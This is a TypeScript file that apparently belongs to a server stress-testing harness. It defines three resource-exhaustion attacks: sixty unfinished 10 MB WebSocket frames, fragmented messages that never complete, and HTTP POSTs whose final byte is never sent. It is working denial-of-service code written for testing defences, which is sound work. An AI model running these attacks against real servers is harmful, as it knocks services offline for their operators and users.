import { CONTINUATION, frame, TEXT } from '../wire/websocket.js';
import { type Attack, type Attacker, everywhere } from './attacker.js';

const MESSAGES = 60;
const SIZE = 10_000_000;

/** All but the last byte of sixty messages of 10 MB, in one frame each. */
export const unfinishedFrames: Attack = {
  name: '60 unfinished frames of 10 MB',
  scenario: 13,
  appliesTo: ({ dialect }) => dialect !== undefined,
  async run(attacker: Attacker) {
    const sockets = await attacker.webSockets(MESSAGES);
    const load = frame(TEXT, Buffer.alloc(SIZE - 1, ' '), { length: SIZE });
    await everywhere(MESSAGES, (place) => attacker.write(sockets[place] as (typeof sockets)[number], load));
  },
};

/** The same as fragments of 60 kB. */
export const unfinishedMessages: Attack = {
  name: '60 unfinished messages of 10 MB in fragments',
  scenario: 13,
  appliesTo: ({ dialect }) => dialect !== undefined,
  async run(attacker: Attacker) {
    const sockets = await attacker.webSockets(MESSAGES);
    const size = 60_000;
    const load = frame(CONTINUATION, Buffer.alloc(size, ' '), { fin: false });
    await everywhere(MESSAGES, async (place) => {
      const socket = sockets[place] as (typeof sockets)[number];
      socket.write(frame(TEXT, '', { fin: false }));
      for (let sent = 0; sent < SIZE - size && attacker.goesOn; sent += size) await attacker.write(socket, load);
    });
  },
};

/** Sixty posts of 10 MB whose last byte does not come. */
export const unfinishedPosts: Attack = {
  name: '60 unfinished posts of 10 MB',
  scenario: 13,
  appliesTo: ({ polling }) => polling !== undefined,
  async run(attacker: Attacker) {
    const sessions = await attacker.sessions(MESSAGES);
    const load = Buffer.alloc(SIZE - 1, ' ');
    await everywhere(MESSAGES, async (place) => {
      const session = sessions[place];
      const request = session && attacker.polling?.send(session.id, [], 1);
      if (session === undefined || request === undefined) return;
      const headers = Object.entries(request.headers ?? {}).map(([name, value]) => `${name}: ${value}\r\n`);
      session.socket.write(`POST ${request.target} HTTP/1.1\r\nHost: x\r\n${headers.join('')}Content-Length: ${SIZE}\r\n\r\n`);
      await attacker.write(session.socket, load);
    });
  },
};
